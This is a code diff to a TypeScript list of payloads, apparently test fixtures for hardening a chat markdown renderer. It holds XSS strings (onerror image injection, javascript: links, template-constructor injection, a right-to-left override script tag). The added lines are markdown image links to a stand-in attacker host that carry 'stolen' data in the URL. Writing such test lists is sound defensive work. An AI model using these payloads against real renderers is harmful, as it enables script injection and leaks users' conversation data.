@@ -53,6 +53,8 @@ export const PAYLOADS: readonly string[] = [
   '[click](chatkit-link://x?a="><img src=x onerror=pwn(39)>)',
   '[x]: javascript:pwn(40)\n\n[x]',
   '{{constructor.constructor("pwn(41)")()}}',
+  `![pixel](${EVIL}/pixel.png?stolen=words)`,
+  `![pixel][1]\n\n[1]: ${EVIL}/pixel.png`,
   '\u202E<script>pwn(42)</script>',
 ];
 
